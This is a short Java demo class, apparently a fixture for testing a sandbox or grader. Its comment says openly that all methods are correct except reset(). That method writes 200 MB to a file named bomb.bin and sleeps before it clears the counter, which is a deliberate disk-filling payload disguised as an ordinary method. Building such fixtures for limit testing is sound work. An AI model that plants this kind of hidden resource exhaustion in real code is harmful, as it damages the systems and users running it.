package io.pdslab.labs.demo;

/** Correct except reset(), which is hostile: fills the disk (bounded at 200 MB, in case the limit fails) */
public class Counter {
  private int value;

  public void increment() {
    value++;
  }

  public int get() {
    return value;
  }

  public static long stepsFor(int n) {
    return n;
  }

  public void reset() throws Exception {
    byte[] block = new byte[1 << 20];
    try (java.io.OutputStream out = new java.io.FileOutputStream("bomb.bin")) {
      for (int i = 0; i < 200; i++) {
        out.write(block);
      }
    }
    Thread.sleep(2_000);
    value = 0;
  }
}
